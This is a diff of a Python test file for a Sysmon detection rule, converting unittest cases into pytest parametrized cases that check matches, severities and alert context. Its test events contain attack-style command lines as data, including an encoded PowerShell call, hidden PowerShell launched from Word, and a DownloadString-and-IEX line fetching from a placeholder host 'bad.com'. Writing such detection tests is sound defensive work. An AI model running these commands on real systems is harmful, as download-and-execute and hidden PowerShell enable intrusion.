@@ -3,130 +3,168 @@
 Unit tests for Sysmon detection rules.
 """
 
-import sys
-import unittest
-from pathlib import Path
+import importlib.util
+from typing import Any, Dict, NamedTuple, Optional
 
-# Add paths
-project_root = Path(__file__).parent.parent.parent
-sys.path.insert(0, str(project_root / "lib" / "panther-mock"))
-sys.path.insert(0, str(project_root / "detections" / "panther" / "helpers"))
+import pytest
 
-from engine import DetectionEngine
+requires_pandas = pytest.mark.skipif(
+    importlib.util.find_spec("pandas") is None, reason="pandas not installed"
+)
 
 
-class TestSysmonSuspiciousProcess(unittest.TestCase):
-    """Tests for sysmon_suspicious_process.py detection."""
+class RuleCase(NamedTuple):
+    """One event run through a rule, with the expected outcome."""
 
-    @classmethod
-    def setUpClass(cls):
-        cls.engine = DetectionEngine()
-        cls.detection = cls.engine.load_rule(
-            project_root / "detections" / "panther" / "rules" / "sysmon_suspicious_process.py"
-        )
+    event: Dict[str, Any]
+    matched: bool
+    severity: Optional[str]  # None when the case doesn't check severity
+    id: str
 
-    def test_encoded_powershell_matches(self):
-        """Should match encoded PowerShell commands."""
-        event = {
-            "EventID": 1,
-            "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+
+# sysmon_suspicious_process.py
+
+PS_IMAGE = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+CMD_IMAGE = "C:\\Windows\\System32\\cmd.exe"
+EXPLORER = "C:\\Windows\\explorer.exe"
+OFFICE_DIR = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
+WINWORD = OFFICE_DIR + "WINWORD.EXE"
+EXCEL = OFFICE_DIR + "EXCEL.EXE"
+
+# Process creation events; cases extend these with {**PS_EVENT, ...}
+PROCESS_EVENT = {"EventID": 1, "User": "DESKTOP\\user"}
+PS_EVENT = {**PROCESS_EVENT, "Image": PS_IMAGE}
+CMD_EVENT = {**PROCESS_EVENT, "Image": CMD_IMAGE}
+
+SUSPICIOUS_PROCESS_CASES = [
+    RuleCase(
+        {
+            **PS_EVENT,
             "CommandLine": "powershell.exe -encodedcommand SQBFAFgA...",
-            "ParentImage": "C:\\Windows\\explorer.exe",
-            "User": "DESKTOP\\user",
-        }
-        result = self.engine.run_detection(self.detection, event)
-        self.assertTrue(result.matched)
-        self.assertEqual(result.severity, "HIGH")
-
-    def test_office_spawning_powershell_matches(self):
-        """Should match Office applications spawning PowerShell."""
-        event = {
-            "EventID": 1,
-            "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-            "CommandLine": "powershell.exe -nop -w hidden",
-            "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
-            "User": "DESKTOP\\user",
-        }
-        result = self.engine.run_detection(self.detection, event)
-        self.assertTrue(result.matched)
-        self.assertEqual(result.severity, "HIGH")
-
-    def test_office_spawning_cmd_matches(self):
-        """Should match Office spawning cmd.exe."""
-        event = {
-            "EventID": 1,
-            "Image": "C:\\Windows\\System32\\cmd.exe",
-            "CommandLine": "cmd.exe /c whoami",
-            "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
-            "User": "DESKTOP\\user",
-        }
-        result = self.engine.run_detection(self.detection, event)
-        self.assertTrue(result.matched)
-
-    def test_download_string_matches(self):
-        """Should match PowerShell with downloadstring."""
-        event = {
-            "EventID": 1,
-            "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "ParentImage": EXPLORER,
+        },
+        True,
+        "HIGH",
+        id="encoded_powershell_matches",
+    ),
+    RuleCase(
+        {**PS_EVENT, "CommandLine": "powershell.exe -nop -w hidden", "ParentImage": WINWORD},
+        True,
+        "HIGH",
+        id="office_spawning_powershell_matches",
+    ),
+    RuleCase(
+        {**CMD_EVENT, "CommandLine": "cmd.exe /c whoami", "ParentImage": EXCEL},
+        True,
+        "HIGH",
+        id="office_spawning_cmd_matches",
+    ),
+    RuleCase(
+        {
+            **PS_EVENT,
             "CommandLine": "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://bad.com')\"",
-            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
-            "User": "DESKTOP\\user",
-        }
-        result = self.engine.run_detection(self.detection, event)
-        self.assertTrue(result.matched)
-
-    def test_normal_powershell_no_match(self):
-        """Should not match normal PowerShell usage."""
-        event = {
-            "EventID": 1,
-            "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-            "CommandLine": "powershell.exe Get-Process",
-            "ParentImage": "C:\\Windows\\explorer.exe",
-            "User": "DESKTOP\\user",
-        }
-        result = self.engine.run_detection(self.detection, event)
-        self.assertFalse(result.matched)
-
-    def test_non_process_creation_no_match(self):
-        """Should not match non-process-creation events."""
-        event = {
+            "ParentImage": CMD_IMAGE,
+        },
+        True,
+        "MEDIUM",
+        id="download_string_matches",
+    ),
+    RuleCase(
+        {**PS_EVENT, "CommandLine": "powershell.exe -nop", "ParentImage": "OUTLOOK.EXE"},
+        True,
+        "HIGH",
+        id="bare_office_parent_high_severity",
+    ),
+    RuleCase(
+        {
+            **PS_EVENT,
+            "CommandLine": "powershell.exe -nop",
+            "ParentImage": "C:\\Reports\\excel-export\\export.exe",
+        },
+        True,
+        "MEDIUM",
+        id="office_name_in_parent_directory_medium_severity",
+    ),
+    RuleCase(
+        {**PS_EVENT, "CommandLine": "powershell.exe Get-Process", "ParentImage": EXPLORER},
+        False,
+        None,
+        id="normal_powershell_no_match",
+    ),
+    RuleCase(
+        {
             "EventID": 3,  # Network connection
-            "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "Image": PS_IMAGE,
             "DestinationIp": "1.2.3.4",
-        }
-        result = self.engine.run_detection(self.detection, event)
-        self.assertFalse(result.matched)
-
-    def test_normal_cmd_no_match(self):
-        """Should not match normal cmd.exe from explorer."""
-        event = {
-            "EventID": 1,
-            "Image": "C:\\Windows\\System32\\cmd.exe",
-            "CommandLine": "cmd.exe",
-            "ParentImage": "C:\\Windows\\explorer.exe",
-            "User": "DESKTOP\\user",
-        }
-        result = self.engine.run_detection(self.detection, event)
-        self.assertFalse(result.matched)
-
-    def test_alert_context_populated(self):
-        """Alert context should contain relevant information."""
-        event = {
+        },
+        False,
+        None,
+        id="non_process_creation_no_match",
+    ),
+    RuleCase(
+        {**CMD_EVENT, "CommandLine": "cmd.exe", "ParentImage": EXPLORER},
+        False,
+        None,
+        id="normal_cmd_no_match",
+    ),
+]
+
+
+@pytest.fixture(scope="module")
+def suspicious_process_results(engine, suspicious_process_rule):
+    """Results for every SUSPICIOUS_PROCESS_CASES event, from one batched call."""
+    events = [case.event for case in SUSPICIOUS_PROCESS_CASES]
+    return engine.run_detection_batch(suspicious_process_rule, events)
+
+
+@pytest.mark.parametrize(
+    "index, event, matched, severity",
+    [(i, case.event, case.matched, case.severity) for i, case in enumerate(SUSPICIOUS_PROCESS_CASES)],
+    ids=[case.id for case in SUSPICIOUS_PROCESS_CASES],
+)
+def test_suspicious_process(suspicious_process_results, index, event, matched, severity):
+    """Should match suspicious command lines and Office-spawned shells."""
+    result = suspicious_process_results[index]
+    assert result.event is event
+    assert result.matched is matched
+    if severity is not None:
+        assert result.severity == severity
+
+
+def test_alert_context_populated(engine, suspicious_process_rule):
+    """Alert context should contain relevant information."""
+    event = {
+        **PS_EVENT,
+        "CommandLine": "powershell -enc ABC123",
+        "ParentImage": WINWORD,
+        "ParentCommandLine": "winword.exe malicious.doc",
+        "User": "DESKTOP\\victim",
+        "ProcessId": 1234,
+        "Computer": "DESKTOP-ABC",
+    }
+    result = engine.run_detection(suspicious_process_rule, event)
+    assert result.matched
+    assert result.alert_context is not None
+    assert result.alert_context["user"] == "DESKTOP\\victim"
+    assert result.alert_context["hostname"] == "DESKTOP-ABC"
+
+
+@requires_pandas
+def test_prefiltered_batch_matches_scalar(engine, suspicious_process_rule):
+    """Batch results should agree with per-event results."""
+    events = [
+        {**CMD_EVENT, "CommandLine": "cmd.exe /c whoami", "ParentImage": EXCEL},
+        {
             "EventID": 1,
-            "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-            "CommandLine": "powershell -enc ABC123",
-            "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
-            "ParentCommandLine": "winword.exe malicious.doc",
-            "User": "DESKTOP\\victim",
-            "ProcessId": 1234,
-            "Computer": "DESKTOP-ABC",
-        }
-        result = self.engine.run_detection(self.detection, event)
-        self.assertTrue(result.matched)
-        self.assertIsNotNone(result.alert_context)
-        self.assertEqual(result.alert_context["user"], "DESKTOP\\victim")
-        self.assertEqual(result.alert_context["hostname"], "DESKTOP-ABC")
-
-
-if __name__ == "__main__":
-    unittest.main()
+            "Image": "C:\\Windows\\System32\\notepad.exe",
+            "CommandLine": "notepad.exe -enc",
+        },
+        {"EventID": 3, "Image": CMD_IMAGE},
+        {"EventID": 1},
+    ]
+    batched = engine.run_vectorized(events, [suspicious_process_rule.rule_id])
+    scalar = engine.run(events, [suspicious_process_rule.rule_id])
+    assert [r.matched for r in batched] == [True, False, False, False]
+    assert [(r.matched, r.title, r.severity, r.error) for r in batched] == [
+        (r.matched, r.title, r.severity, r.error) for r in scalar
+    ]